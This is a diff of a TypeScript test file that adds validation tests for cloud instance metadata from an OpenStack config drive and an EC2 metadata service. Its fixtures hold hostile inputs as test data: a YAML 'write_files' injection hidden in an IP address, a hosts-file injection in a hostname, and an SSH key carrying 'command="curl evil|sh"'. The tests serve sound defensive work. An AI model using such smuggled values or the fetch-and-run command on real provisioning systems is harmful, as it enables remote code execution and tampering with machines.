@@ -7,7 +7,7 @@ import { join } from 'node:path';
 import { ec2Source } from '../../src/datasource/ec2';
 import { backoff, defaultRetryPolicy, fetchWithRetry } from '../../src/datasource/http';
 import type { RetryPolicy } from '../../src/datasource/http';
-import { configDriveSource, openstackSource } from '../../src/datasource/openstack';
+import { configDriveSource, openstackMetadata, openstackSource } from '../../src/datasource/openstack';
 import { firstAnswer } from '../../src/datasource/select';
 import { cmdlineSource, cmdlineUrl, fileSource, urlSource } from '../../src/datasource/simple';
 import { FakeMetadata } from '../support/fake-metadata';
@@ -165,6 +165,53 @@ describe('OpenStack', () => {
     writeFileSync(join(dir, 'openstack/latest/user_data'), '#cloud-config\nhostname: cd\n');
     expect(await configDriveSource(dir).fetch()).toMatchObject({ source: 'configdrive', metadata: { instanceId: openstack.metaData.uuid, sshPublicKeys: [key] } });
     expect(await configDriveSource(join(dir, 'nothing')).fetch()).toBeUndefined();
+  });
+});
+
+describe('metadata values are parsed into their type, or refused naming the source and field', () => {
+  const meta = { uuid: 'u-1', hostname: 'node-1', public_keys: { k: key } };
+  const files = (metaData: object, networkData?: object) => ({
+    metaData: Buffer.from(JSON.stringify(metaData)),
+    userData: undefined,
+    networkData: networkData ? Buffer.from(JSON.stringify(networkData)) : undefined,
+  });
+  const injection = '1.2.3.4"\nwrite_files:\n  - path: /etc/injected\n    content: x\n#';
+
+  test.each([
+    ['an address with YAML after it', files(meta, { networks: [{ type: 'ipv6', ip_address: injection }] }), /^openstack config drive: network_data\.json networks\[0\]\.ip_address: not an IP address: "1\.2\.3\.4\\"\\nwrite_files/],
+    ['an address with a zone', files(meta, { networks: [{ type: 'ipv4', ip_address: '10.0.0.1' }, { type: 'ipv6', ip_address: 'fe80::1%eth0' }] }), /networks\[1\]\.ip_address: not an IP address/],
+    ['an IPv4 address where the type says ipv6', files(meta, { networks: [{ type: 'ipv6', ip_address: '10.0.0.1' }] }), /networks\[0\]\.ip_address: not an IPv6 address/],
+    ['an address that is not a string', files(meta, { networks: [{ type: 'ipv4', ip_address: ['10.0.0.1'] }] }), /networks\[0\]\.ip_address: not an IP address/],
+    ['a hostname with a newline', files({ ...meta, hostname: 'node\n127.0.0.1 bank' }), /^openstack config drive: meta_data\.json hostname: not a host name \(it holds "\\n"/],
+    ['a hostname with a space', files({ ...meta, hostname: 'node 1' }), /meta_data\.json hostname: not a host name/],
+    ['an instance id with a newline', files({ ...meta, uuid: 'a\nchanged instance x' }), /meta_data\.json uuid: not an instance id/],
+    ['two keys in one value', files({ ...meta, public_keys: { k: `${key}\n${key}` } }), /meta_data\.json public_keys\.k: an SSH key is one line/],
+    ['a key that is no key', files({ ...meta, public_keys: { k: 'command="curl evil|sh" nothing' } }), /public_keys\.k: not an SSH public key/],
+  ])('config drive: %s', (_name, given, message) => {
+    expect(() => openstackMetadata(given, 'configdrive')).toThrow(message);
+  });
+
+  test('valid values pass, typed as they were', () => {
+    const got = openstackMetadata(files(meta, { networks: [{ type: 'ipv4_dhcp' }, { type: 'ipv4', ip_address: '10.1.0.4' }, { type: 'ipv6', ip_address: '2001:db8::4' }] }), 'openstack');
+    expect(got.metadata).toEqual({ instanceId: 'u-1', hostname: 'node-1', privateIpv4: '10.1.0.4', privateIpv6: '2001:db8::4', sshPublicKeys: [key] });
+  });
+
+  test.each([
+    ['local-ipv4', '10.0.0.5\nwrite_files: []', /^ec2 metadata service: meta-data\/local-ipv4: not an IP address/],
+    ['public-ipv4', 'fd00::1', /meta-data\/public-ipv4: not an IPv4 address/],
+    ['ipv6', '"fd00::1"', /meta-data\/ipv6: not an IP address/],
+    ['hostname', 'host"name', /meta-data\/hostname: not a host name/],
+    ['instance-id', 'i-1\u0007', /meta-data\/instance-id: not an instance id/],
+  ])('EC2: a hostile %s is refused', async (field, value, message) => {
+    const s = await serve({ ...ec2Data, imds: 'v1', metaData: { ...ec2Data.metaData, [field]: value } });
+    await expect(ec2Source(s.url, fast).fetch()).rejects.toThrow(message);
+  });
+
+  test('EC2: a public key list longer than any machine has is refused, not fetched key by key', async () => {
+    const keys = Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`k${i}`, key]));
+    const s = await serve({ ...ec2Data, imds: 'v1', keys });
+    await expect(ec2Source(s.url, fast).fetch()).rejects.toThrow(/lists 101 keys, more than 100/);
+    expect(s.requests.filter((r) => r.path.endsWith('openssh-key'))).toEqual([]);
   });
 });
 
